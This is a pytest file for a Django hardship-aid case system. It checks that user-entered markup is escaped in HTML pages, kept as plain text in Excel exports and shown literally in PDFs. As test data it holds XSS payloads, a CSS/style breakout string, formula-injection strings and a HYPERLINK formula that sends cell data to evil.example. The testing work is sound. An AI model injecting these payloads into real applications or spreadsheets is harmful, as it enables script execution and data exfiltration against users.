"""Markup typed into names, notes, reasons and comments is shown as text everywhere: escaped
in every HTML page, written as text (never a formula) in the workbooks, and drawn as the
literal characters in the PDFs."""

import datetime
import io
import re

import pypdfium2 as pdfium
import pytest
from casekit import act, advance, file, investigate
from django.urls import reverse
from factories import HardshipCauseFactory, HouseholdFactory
from fundkit import ACCOUNT, make_fund, open_window, pay, receive, set_account
from openpyxl import load_workbook

from cases import services as case_services
from cases.models import Application, Notice

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
ESCAPED = {
    SCRIPT: "&lt;script&gt;alert(1)&lt;/script&gt;",
    IMG: "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
}
# An exporter's name that would end a CSS string and the <style> element of a PDF template.
EXPORTER = '王"}</style>' + SCRIPT
FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
YEAR = 2026  # fundkit posts receipts and payments in 2026


def body(response) -> bytes:
    return b"".join(response.streaming_content)  # read to the end, it closes itself


def pdf_text(data: bytes) -> str:
    pdf = pdfium.PdfDocument(data)
    try:
        return "\n".join(page.get_textpage().get_text_bounded() for page in pdf)
    finally:
        pdf.close()


def squeezed(text: str) -> str:
    """Without white space: a table cell may wrap anywhere."""
    return re.sub(r"\s+", "", text)


@pytest.fixture
def marked(org, staff, finance_c1):
    """G1a renamed with markup; a household of it whose name, employer and notes are
    markup, with an effective application (paid from a fund named with markup) and one in
    notice whose reason and decisions' comments are markup."""
    org.g1a.name = "机修车间" + SCRIPT
    org.g1a.save()
    household = HouseholdFactory(
        in_file=True,
        union=org.g1a,
        worker_name=SCRIPT,
        employer=IMG,
        address=HYPERLINK,
        notes=f"{SCRIPT}\n{IMG}",
    )
    HardshipCauseFactory(household=household, cause="illness")
    household = set_account(household, ACCOUNT)
    people = {
        "chair": staff["chair"],
        "reviewer": staff["reviewer"],
        "committee": staff["committee"],
    }

    effective = advance(file(staff["caseworker"], household, reason=SCRIPT), "in_notice", **people)
    ends_on = Notice.objects.get(application=effective).ends_on
    case_services.close_due_notices(ends_on + datetime.timedelta(days=1))
    effective.refresh_from_db()
    assert effective.state == Application.State.EFFECTIVE

    in_notice = file(staff["caseworker"], household, reason=f"{SCRIPT}{IMG}")
    act(staff["chair"], in_notice, "approve", comment=IMG)
    investigate(staff["reviewer"], in_notice)
    act(staff["reviewer"], in_notice, "approve", comment=SCRIPT)
    act(staff["committee"], in_notice, "approve", comment="同意。")
    in_notice.refresh_from_db()
    assert in_notice.state == Application.State.IN_NOTICE

    open_window()  # fundkit posts on fixed dates in 2026
    fund = make_fund(org.c1, name=SCRIPT + "帮扶资金")
    receive(finance_c1, fund, "10000", note=IMG)
    for formula in FORMULAS:
        receive(finance_c1, fund, "1", note=formula)
    pay(finance_c1, fund, effective, "100", note=HYPERLINK)
    fund.refresh_from_db()
    return {
        "household": household,
        "effective": effective,
        "in_notice": in_notice,
        "fund": fund,
    }


def assert_escaped(html: str, *payloads):
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "onerror=alert(1)>" not in html
    for payload in payloads:
        assert payload not in html
        assert ESCAPED[payload] in html, payload


PAGES = [
    # (url name, who looks, which payloads the page shows)
    ("household_list", "caseworker_g1a", [SCRIPT]),
    ("household_detail", "caseworker_g1a", [SCRIPT, IMG]),
    ("household_detail", "committee_c1", [SCRIPT, IMG]),
    ("application_detail", "chair_g1a", [SCRIPT, IMG]),
    ("application_print", "reviewer_c1", [SCRIPT, IMG]),
    ("application_list", "caseworker_g1a", [SCRIPT]),
    ("notice_list", "worker_g1a", [SCRIPT]),
    ("fund_list", "finance_c1", [SCRIPT]),
    ("fund_detail", "finance_c1", [SCRIPT, IMG]),
    ("payment_create", "finance_c1", [SCRIPT]),
]


def page_url(name, marked):
    if name in ("household_detail",):
        return reverse(name, args=[marked["household"].pk])
    if name in ("application_detail", "application_print"):
        return reverse(name, args=[marked["in_notice"].pk])
    if name == "fund_detail":
        return reverse(name, args=[marked["fund"].pk])
    if name == "payment_create":
        return reverse(name, args=[marked["effective"].pk])
    return reverse(name)


@pytest.mark.parametrize(
    "name, role, payloads", PAGES, ids=[f"{name}-{role}" for name, role, _p in PAGES]
)
def test_pages_show_markup_as_text(client, request, marked, name, role, payloads):
    if role == "worker_g1a":
        request.getfixturevalue("worker_g1a")
    client.force_login(request.getfixturevalue(role))
    response = client.get(page_url(name, marked))
    assert response.status_code == 200
    assert_escaped(response.content.decode(), *payloads)


def test_the_revealed_fragment_and_the_snapshot_escape_too(client, marked, caseworker_g1a):
    client.force_login(caseworker_g1a)
    members = client.post(reverse("household_reveal", args=[marked["household"].pk, "members"]))
    assert members.status_code == 200
    assert "<script>alert" not in members.content.decode()
    application = marked["in_notice"]
    decision = application.decisions.filter(action="approve").first()
    snapshot = client.get(reverse("household_snapshot", args=[application.pk, decision.pk]))
    assert snapshot.status_code == 200
    assert_escaped(snapshot.content.decode(), SCRIPT)


# Workbooks ---------------------------------------------------------------------------


def cells_of(workbook):
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula(workbook):
    for cell in cells_of(workbook):
        assert cell.data_type != "f", (cell.parent.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)


def test_the_roster_writes_formula_like_text_as_text(client, org, marked, caseworker_g1a):
    for formula in FORMULAS:
        HouseholdFactory(
            in_file=True, union=org.g1a, worker_name=formula, employer=formula, address=formula
        )
    client.force_login(caseworker_g1a)
    response = client.get(reverse("roster_xlsx"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(body(response)))
    assert_no_formula(workbook)
    values = {cell.value for cell in cells_of(workbook)}
    assert set(FORMULAS) | {SCRIPT, IMG, HYPERLINK, org.g1a.name} <= values
    by_value = {cell.value: cell for cell in cells_of(workbook) if isinstance(cell.value, str)}
    for text in [*FORMULAS, HYPERLINK]:
        assert by_value[text].data_type == "s", text


def test_the_annual_ledger_writes_formula_like_text_as_text(client, org, marked, finance_c1):
    client.force_login(finance_c1)
    response = client.get(reverse("annual_report_xlsx"), {"year": YEAR, "unit": org.c1.pk})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(body(response)))
    assert_no_formula(workbook)
    ledger = workbook["资金台账"]
    values = {cell.value for row in ledger.iter_rows() for cell in row}
    assert set(FORMULAS) | {HYPERLINK, IMG, SCRIPT, SCRIPT + "帮扶资金"} <= values
    for row in ledger.iter_rows():
        for cell in row:
            if cell.value in [*FORMULAS, HYPERLINK]:
                assert cell.data_type == "s", (cell.coordinate, cell.value)


# PDFs --------------------------------------------------------------------------------


def test_the_notice_list_pdf_shows_the_markup_literally(client, org, marked, caseworker_g1a):
    caseworker_g1a.full_name = EXPORTER
    caseworker_g1a.save()
    client.force_login(caseworker_g1a)
    response = client.get(reverse("notice_pdf"))
    assert response.status_code == 200
    data = body(response)
    assert data.startswith(b"%PDF")
    text = squeezed(pdf_text(data))
    assert squeezed(org.g1a.name) in text  # 机修车间<script>alert(1)</script>
    assert squeezed(EXPORTER) in text  # the stamp in the page margin (a CSS string)


def test_the_approval_form_pdf_shows_the_markup_literally(client, marked, caseworker_g1a):
    caseworker_g1a.full_name = EXPORTER
    caseworker_g1a.save()
    client.force_login(caseworker_g1a)
    response = client.get(reverse("application_pdf", args=[marked["in_notice"].pk]))
    assert response.status_code == 200
    data = body(response)
    assert data.startswith(b"%PDF")
    text = squeezed(pdf_text(data))
    assert squeezed(SCRIPT) in text  # the worker's name
    assert squeezed(IMG) in text  # the employer, and the chair's comment
    assert squeezed(SCRIPT + IMG) in text  # the reason
    assert text.count(squeezed(IMG)) >= 2
    assert squeezed(EXPORTER) in text
